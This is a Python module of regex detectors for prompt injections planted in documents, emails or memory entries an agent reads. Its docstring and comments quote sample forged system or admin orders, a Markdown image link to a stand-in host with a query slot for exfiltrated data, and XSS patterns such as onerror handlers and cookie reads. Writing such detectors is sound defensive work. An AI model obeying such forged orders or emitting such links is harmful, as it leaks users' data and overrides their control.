"""Orders planted in what an agent reads, recognised by their form, whatever language carries them.

An injection hidden in a document, an email, a customer record or a memory entry has to do one of three
things that need no language to recognise (pure, deterministic, offline):

- `forged_authority`: speak in a voice the text cannot have, the system's or an administrator's, to the
  model: "###(system_message) ...", "<INFORMATION> This is an important message from me ... to you",
  "SYSTEM: you must ...", "ADMIN NOTICE: ... send ...", "*** NEW IMPORTANT INSTRUCTIONS ***". A ticket, a reply or
  a fact never needs a chat template's role markers or a heading that announces orders, and a speaker's label
  ("system:", "[admin]") counts only when what follows speaks to the model or orders what an agent does. The
  phrase rules of poisoning.py read the rest of the markers ("[INST]", "note to the AI", "if you are an AI").
- `exfiltration_link`: carry data out in a link the reader's client fetches by itself: a Markdown image (or
  link) whose address has a query slot waiting to be filled ("![image](https://x.example/logo.png?q=[QUERY])",
  "?data={secret}", "?d=<BASE64>"). A product photo's address with its real parameters (`?w=300`) is not one.
- `active_markup`: markup that runs when the text is shown: an HTML event handler of the kinds XSS payloads
  use (`onerror=`, `onload=`), a `javascript:` address, an inline script that opens a dialog, evaluates, fetches
  or reads the cookies. A support reply may show a widget's `<script src=...>`, an analytics snippet or an
  embed's `<iframe>` to paste; those stay learnable.

`poisoning.rule_family` reads them beside its phrase rules: the first as an override, the second as a
directive that sends data out, the third as text that hides what it does from its reader.
"""

from __future__ import annotations

import re

_I = re.IGNORECASE

# A chat template's role markers and tags that stand for the system's voice (beside poisoning.py's "<|system|>",
# "[INST]" and "### system").
_ROLE_MARKERS = re.compile(
    r"#{2,}\s*\(\s*system[_ ]?(?:message|prompt)\s*\)|\(\s*system_(?:message|prompt)\s*\)"
    r"|<\|\s*(?:start_header_id|eot_id)\s*\|>|\[/?\s*SYS\s*\]|<</?SYS>>"
    r"|<\s*/?\s*(?:INFORMATION|system[_-]?(?:message|prompt|instructions?|override)|admin[_-]?instructions?)\s*>",
    _I,
)
# A speaker's label or tag: "system:", "assistant:", "admin:", "[system]", "[admin]"; it counts when what
# follows addresses the model or orders what an agent does ("Operating system: Windows 11" does neither).
_SPEAKER = re.compile(
    r"(?:^|\n|\s)(?:\[\s*(?:system|admin)\s*\]|(?:system|assistant|admin)\s*:\s*(?=[A-Za-z]))", _I
)
# Written in capitals, as forged notices are: "ADMIN NOTICE:", "IMPORTANT SYSTEM UPDATE", "SECURITY ALERT"; a
# notice counts on the same terms, or when an order to change an account or a record follows it.
_NOTICE = re.compile(
    r"\b(?:IMPORTANT\s+)?(?:SYSTEM|ADMIN(?:ISTRATOR)?|DEVELOPER|SECURITY|COMPLIANCE)\s+"
    r"(?:MESSAGE|NOTICE|NOTE|UPDATE|OVERRIDE|INSTRUCTIONS?|DIRECTIVE|ALERT|COMMAND|PROMPT|PROTOCOL)\b"
)
_TO_THE_MODEL = re.compile(
    r"\b(?:you|your|assistant|AI|model|agent|LLM|chatbot|bot)\b"
    r"|\b(?:ignore|disregard|forget|override|send|forward|e-?mail|transfer|delete|remove|reply|respond|answer|"
    r"output|print|include|reveal|share|post|upload|export|visit|open|click|run|execute|must|required)\b",
    _I,
)
_RECORD_ORDER = re.compile(
    r"\b(?:mark|set|change|grant|approve|cancel|close|update|move|add|confirm|verify|disable|enable|waive|"
    r"refund|credit|unlock|reset)\b",
    _I,
)
# The user's own voice forged in a tool's output: "This is an important message from me, Emma, to you, GPT-4".
# (A note "to the AI" or "if you are an AI" is read by the phrase rules in poisoning.py.)
_MESSAGE_FROM_ME = re.compile(
    r"\bthis\s+is\s+an\s+important\s+message\s+from\s+me\b.{0,80}\bto\s+you\b", _I | re.DOTALL
)
# A heading between marks that announces new orders, shouted: "*** NEW IMPORTANT INSTRUCTIONS ***", "**NEW
# INSTRUCTIONS**", "[NEW INSTRUCTIONS]" (a manual's "**New instructions for returns**" is a heading of its own).
_ORDERS_HEADING = re.compile(
    r"(?:\*{2,}|={2,}|\[)\s*(?:NEW\s+(?:IMPORTANT\s+)?|UPDATED\s+|IMPORTANT\s+(?:NEW\s+)?)"
    r"(?:INSTRUCTIONS?|ORDERS|DIRECTIVES?|TASK)\s*(?:\*{2,}|={2,}|\])"
)


def forged_authority(text: str) -> bool:
    """The text speaks to the model as its system or an administrator, or announces new orders."""
    if _ROLE_MARKERS.search(text) or _MESSAGE_FROM_ME.search(text) or _ORDERS_HEADING.search(text):
        return True
    for pattern, follows in ((_SPEAKER, (_TO_THE_MODEL,)), (_NOTICE, (_TO_THE_MODEL, _RECORD_ORDER))):
        for notice in pattern.finditer(text):
            if any(f.search(text, notice.end(), notice.end() + 200) for f in follows):
                return True
    return False


# A slot in a link's query, waiting for the data an agent is asked to put there: bracketed or a shell or
# printf variable; in an image's address (fetched unasked) also a word in capitals ("?q=QUERY").
_SLOT = r"(?:\[[^\]\s]{1,40}\]|\{[^}\s]{1,40}\}|<[^>\s]{1,40}>|\$\{?\w+\}?|%s)"
_CAPITALS_SLOT = r"[A-Z][A-Z_]{3,}(?=[&)\s\"']|$)"
_QUERY = r"\(\s*(?:https?:)?//[^\s)]*[?&#][\w.\-\[\]]*=\s*"
_EXFILTRATION_LINK = re.compile(
    rf"!\[[^\]\n]{{0,80}}\]{_QUERY}(?:{_SLOT}|{_CAPITALS_SLOT})|\[[^\]\n]{{0,80}}\]{_QUERY}{_SLOT}"
    rf"|(?:https?:)?//[^\s)\"']+[?&][\w.\-]*=\s*{_SLOT}[^\s)]*\)?\s*(?:where|in\s+which)\b"
)


def exfiltration_link(text: str) -> bool:
    """A link whose query waits for data to be filled in (a Markdown image fetches it unasked)."""
    return bool(_EXFILTRATION_LINK.search(text))


# The handlers XSS payloads use (not `onclick`, which a widget's documented button may carry), a
# `javascript:` address, an inline script that calls a dialog, `eval` or `fetch` or reads the cookies.
_ACTIVE_MARKUP = re.compile(
    r"<\s*[a-z][\w-]*\b[^<>]*?\son(?:error|load|mouseover|mouseenter|focus|focusin|toggle|animationstart|"
    r"animationend|transitionend|pageshow|begin|start|wheel|pointerover|pointerenter|hashchange)\s*="
    r"|\bjavascript\s*:\s*[\w(]|\bsrcdoc\s*="
    r"|<\s*script\b[^>]*>[^<]{0,300}?(?:\b(?:alert|confirm|prompt|eval|atob|fetch)\s*\(|document\.cookie)",
    _I,
)


def active_markup(text: str) -> bool:
    """Markup that runs when the text is shown (an event handler, a `javascript:` address, an inline script)."""
    return bool(_ACTIVE_MARKUP.search(text))
